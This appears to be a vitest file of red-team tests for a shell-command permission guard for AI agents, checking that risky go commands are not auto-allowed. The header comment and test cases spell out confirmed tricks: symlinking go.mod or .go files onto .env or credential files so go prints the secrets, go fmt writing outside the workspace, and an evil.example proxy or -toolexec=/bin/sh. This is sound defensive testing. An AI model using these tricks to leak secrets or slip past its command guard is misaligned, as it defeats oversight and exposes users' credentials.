// Never (red team, round 11, the go class): a go command an allow covers prints a secret, writes outside
// the workspace, or reaches the network. Each attack was confirmed with Debian's go 1.19.8
// (golang-1.19-go_1.19.8-2, GOTOOLCHAIN=local; the `real go` cases below run when a `go` is on PATH):
// - go.mod -> .env: `go list ./...` prints `go.mod:1: unknown directive: API_TOKEN=ENVSECRET123`;
// - leak.go -> .env: `go list ./...` prints `leak.go:1:1: expected 'package', found API_TOKEN` (a one-word
//   token file prints whole);
// - `go fmt /elsewhere/x.go` rewrites a file outside the workspace (go fmt runs gofmt -l -w);
// - `go list -mod=mod ./...` and plain `go list ./...` with a go.sum entry print `go: downloading rsc.io/quote
//   v1.5.2`: a listing that downloads (with GOPROXY=off it fails with `module lookup disabled`);
// - `go env -w` / `go env -u` write the user's go env file (`go help env`).
import { execFileSync, spawnSync } from "node:child_process";
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { diskCheck } from "../../../../src/companion/guards/disk-view.ts";
import { BALANCED, CAUTIOUS } from "../../policy/shell/policies.ts";
import { judgeOnDisk } from "./disk-fixture.ts";

const base = realpathSync(mkdtempSync(join(tmpdir(), "airlock-rt12go-")));
const home = join(base, "home");
const ws = join(base, "proj");
const outside = join(base, "outside");
for (const d of [home, join(ws, "sub"), outside]) mkdirSync(d, { recursive: true });
const credentials = join(home, ".git-credentials");
writeFileSync(credentials, "https://u:GITCREDSECRET@github.com\n");
writeFileSync(join(ws, ".env"), "API_TOKEN=ENVSECRET123\n");
const GO_MOD = "module example.com/p\n\ngo 1.19\n";
writeFileSync(join(ws, "go.mod"), GO_MOD);
writeFileSync(join(ws, "main.go"), "package main\n\nfunc main() {}\n");
writeFileSync(join(ws, "sub", "a.go"), "package sub\n");
writeFileSync(join(outside, "x.go"), "package main\nfunc   main( ){\n}\n");
afterAll(() => rmSync(base, { recursive: true, force: true }));

function judge(command: string, cwd = ws) {
  const disk = diskCheck({ env: { HOME: home } });
  return [CAUTIOUS, BALANCED].map((p) =>
    judgeOnDisk(p, { tool: "bash", input: { command }, cwd, home }, { disk }),
  );
}

function expectAsks(command: string, word: string, cwd = ws): void {
  for (const r of judge(command, cwd)) {
    expect(r.action, `${command}\n${r.why}`).not.toBe("allow");
    // A variable go reads asks as any steering assignment does, by the policy's rule rather than by name.
    if (word !== "") expect(`${r.why}\n${r.reasons.join("\n")}`, command).toContain(word);
  }
}

function expectAllowed(command: string, cwd = ws): void {
  for (const r of judge(command, cwd))
    expect(r.action, `${command}\n${r.why}\n${r.reasons.join("\n")}`).toBe("allow");
}

/** Swaps `path` for what `make` creates while `fn` runs, then puts the original text back (or removes it). */
function withFile(path: string, make: () => void, fn: () => void): void {
  let before: string | null = null;
  try {
    before = readFileSync(path, "utf8");
  } catch {}
  rmSync(path, { force: true });
  make();
  try {
    fn();
  } finally {
    rmSync(path, { force: true });
    if (before !== null) writeFileSync(path, before);
  }
}

const goOnPath = spawnSync("go", ["version"], { encoding: "utf8" }).status === 0;

describe("go's everyday reads stay allowed in a plain module", () => {
  it.each([
    "go list ./...",
    "go list",
    "go list -f '{{.Dir}}' ./...",
    "go list -json ./sub",
    "go list -e -deps -test ./...",
    "go env GOPATH",
    "go env",
    "go env -json GOOS GOARCH",
    "go version",
    "go doc",
    "go doc fmt",
    "go doc fmt.Println",
    "go doc -all ./sub",
    "go help build",
    "go help",
    "cd sub && go list .",
  ])("%s", (command) => expectAllowed(command));
});

describe("go.mod, go.work, go.sum linked onto a secret (go quotes the lines it cannot parse)", () => {
  it.each([
    ["go.mod", "go list ./..."],
    ["go.mod", "go doc fmt"],
    ["go.mod", "go env GOMOD"],
    ["go.work", "go list ./..."],
    ["go.sum", "go list"],
  ])("%s -> ~/.git-credentials makes `%s` ask", (name, command) => {
    withFile(
      join(ws, name),
      () => symlinkSync(credentials, join(ws, name)),
      () => {
        expectAsks(command, name);
        expectAsks(`cd sub && ${command}`, name);
      },
    );
  });

  it.skipIf(!goOnPath)("real go quotes a linked go.mod's line", () => {
    withFile(
      join(ws, "go.mod"),
      () => symlinkSync(join(ws, ".env"), join(ws, "go.mod")),
      () => {
        const r = spawnSync("go", ["list", "./..."], {
          cwd: ws,
          encoding: "utf8",
          env: { ...process.env, HOME: home, GOTOOLCHAIN: "local", GOFLAGS: "", GOPROXY: "off" },
        });
        expect(r.stderr).toContain("ENVSECRET123");
      },
    );
  });
});

describe("a .go file linked onto a secret (go/parser quotes the first token)", () => {
  it.each(["go list ./...", "go list", "go doc", "go list ./sub", "go fmt ./...", "cd sub && go list ."])(
    "%s asks",
    (command) => {
      const link = join(ws, "sub", "leak.go");
      withFile(
        link,
        () => symlinkSync(join(ws, ".env"), link),
        // The walk names what the link reaches.
        () => expectAsks(command, ".env"),
      );
    },
  );

  it.skipIf(!goOnPath)("real go prints the token", () => {
    const link = join(ws, "leak.go");
    withFile(
      link,
      () => symlinkSync(join(ws, ".env"), link),
      () => {
        const r = spawnSync("go", ["list", "./..."], {
          cwd: ws,
          encoding: "utf8",
          env: { ...process.env, HOME: home, GOTOOLCHAIN: "local", GOFLAGS: "", GOPROXY: "off" },
        });
        expect(r.stderr).toContain("API_TOKEN");
      },
    );
  });
});

describe("go fmt writes the files it formats", () => {
  it.each([
    [`go fmt ${join(outside, "x.go")}`, "x.go"],
    ["go fmt ../outside/x.go", "x.go"],
    ["go fmt ./outlink/...", "outlink"],
    ["go fmt fmt", "fmt"],
    ["go fmt example.com/p/...", "example.com/p/..."],
  ])("%s is never allowed", (command, word) => {
    const link = join(ws, "outlink");
    withFile(
      link,
      () => symlinkSync(outside, link),
      () => expectAsks(command, word),
    );
  });

  it.skipIf(!goOnPath)("real go fmt rewrites a file outside the workspace", () => {
    const x = join(outside, "y.go");
    writeFileSync(x, "package main\nfunc   main( ){\n}\n");
    execFileSync("go", ["fmt", x], { cwd: ws, env: { ...process.env, HOME: home, GOTOOLCHAIN: "local" } });
    expect(readFileSync(x, "utf8")).toContain("func main() {");
  });
});

describe("go commands that download, or write go.mod/go.sum or the go env file", () => {
  it.each([
    ["go list -mod=mod ./...", "-mod"],
    ["go list -mod mod ./...", "mod"],
    ["go fmt -mod=mod ./...", "-mod"],
    ["go list -m all", "-m"],
    ["go list -m -u all", "-m"],
    ["go list -versions -m example.com/x", "-versions"],
    ["go list -modfile=../outside/x.mod ./...", "-modfile"],
    ["go list -export ./...", "-export"],
    ["go list -compiled ./...", "-compiled"],
    ["go list -toolexec=/bin/sh ./...", "-toolexec"],
    ["go list -overlay=o.json ./...", "-overlay"],
    ["go list -buildvcs=true ./...", "-buildvcs"],
    ["go list -C .. ./...", "-C"],
    ["go env -w GOFLAGS=-mod=mod", "-w"],
    ["go env -u GOFLAGS", "-u"],
    ["go mod download", "mod"],
    ["go get example.com/x", "get"],
    ["go clean -modcache", "clean"],
    ["go work sync", "work"],
    ["GOFLAGS=-mod=mod go list ./...", ""],
    ["GOPROXY=https://evil.example go list ./...", ""],
    ["GONOSUMDB=example.com go list ./...", ""],
    ["GOPRIVATE=example.com go list ./...", ""],
    ["env GOFLAGS=-mod=mod go doc fmt", ""],
  ])("%s is never allowed", (command, word) => expectAsks(command, word));

  it("a go.mod that requires modules makes package loading ask; vendored, it does not", () => {
    const mod = join(ws, "go.mod");
    withFile(
      mod,
      () => writeFileSync(mod, `${GO_MOD}\nrequire rsc.io/quote v1.5.2\n`),
      () => {
        for (const c of ["go list ./...", "go doc fmt", "go fmt ./...", "cd sub && go list ."])
          expectAsks(c, "requires modules");
        // env, version and help load no module.
        expectAllowed("go env GOPATH");
        expectAllowed("go version");
        const vendor = join(ws, "vendor", "modules.txt");
        mkdirSync(join(ws, "vendor"), { recursive: true });
        withFile(
          vendor,
          () => writeFileSync(vendor, "# rsc.io/quote v1.5.2\n## explicit\nrsc.io/quote\n"),
          () => expectAllowed("go list ./..."),
        );
        rmSync(join(ws, "vendor"), { recursive: true, force: true });
      },
    );
  });

  it("a go.work anywhere above asks; a module above the workspace asks", () => {
    const work = join(ws, "go.work");
    withFile(
      work,
      () => writeFileSync(work, "go 1.19\n\nuse ./sub\n"),
      () => expectAsks("go list ./...", "go.work"),
    );
    // The session's directory is sub/, whose module (proj/go.mod) is above it.
    expectAsks("go list ./...", "out of the workspace", join(ws, "sub"));
  });

  it.skipIf(!goOnPath)("real go downloads for a plain go list when go.sum has the entry", () => {
    const mod = join(ws, "go.mod");
    const sum = join(ws, "go.sum");
    const main = join(ws, "main.go");
    withFile(
      mod,
      () => writeFileSync(mod, `${GO_MOD}\nrequire rsc.io/quote v1.5.2\n`),
      () =>
        withFile(
          sum,
          () =>
            writeFileSync(
              sum,
              "rsc.io/quote v1.5.2 h1:w5fcysjrx7yqtD/aO+QwRjYZOKnaM9Uh2b40tElTs3Y=\nrsc.io/quote v1.5.2/go.mod h1:LzX7hefJvL54yjefDEDHNONDjII0t9xZLPXsUe+TKr0=\n",
            ),
          () =>
            withFile(
              main,
              () =>
                writeFileSync(
                  main,
                  'package main\n\nimport "rsc.io/quote"\n\nfunc main() { println(quote.Hello()) }\n',
                ),
              () => {
                const r = spawnSync("go", ["list", "./..."], {
                  cwd: ws,
                  encoding: "utf8",
                  env: {
                    ...process.env,
                    HOME: home,
                    GOTOOLCHAIN: "local",
                    GOFLAGS: "",
                    GOPROXY: "off",
                    GOMODCACHE: join(base, "modcache"),
                  },
                });
                // GOPROXY=off: the lookup go tried is refused rather than sent.
                expect(`${r.stdout}${r.stderr}`).toMatch(/downloading rsc\.io\/quote|module lookup disabled/);
              },
            ),
        ),
    );
  });
});

describe("a go line newer than the installed go (GOTOOLCHAIN=auto downloads that release)", () => {
  // go.dev/doc/toolchain: from go 1.21, a go.mod or go.work `go` line newer than the local toolchain makes
  // every go command (go version too) download that release and run it. A fake GOROOT stands for the install.
  const goroot = join(base, "goroot");
  mkdirSync(join(goroot, "bin"), { recursive: true });
  writeFileSync(join(goroot, "bin", "go"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
  const judgeWith = (command: string, env: NodeJS.ProcessEnv) =>
    [CAUTIOUS, BALANCED].map((p) =>
      judgeOnDisk(p, { tool: "bash", input: { command }, cwd: ws, home }, { disk: diskCheck({ env }) }),
    );
  const env = { HOME: home, PATH: `${join(goroot, "bin")}:/usr/bin:/bin` };

  it.each([
    ["go1.22.5", "go 1.99", false],
    ["go1.22.5\ntime 2024-07-01T00:00:00Z\n", "go 1.23.1", false],
    ["go1.22.5", "go 1.22", true],
    ["go1.22.5", "go 1.22.5", true],
    ["go1.19.8", "go 1.99", true],
  ])("installed %j, go.mod %j: allowed %s", (version, line, allowed) => {
    writeFileSync(join(goroot, "VERSION"), version);
    withFile(
      join(ws, "go.mod"),
      () => writeFileSync(join(ws, "go.mod"), `module example.com/p\n\n${line}\n`),
      () => {
        for (const command of ["go version", "go env GOPATH", "go list ./..."])
          for (const r of judgeWith(command, env))
            expect(r.action === "allow", `${version} ${line} ${command}\n${r.why}`).toBe(allowed);
        for (const r of judgeWith("go version", { ...env, GOTOOLCHAIN: "local" }))
          expect(r.action, "GOTOOLCHAIN=local never switches").toBe("allow");
      },
    );
  });
});
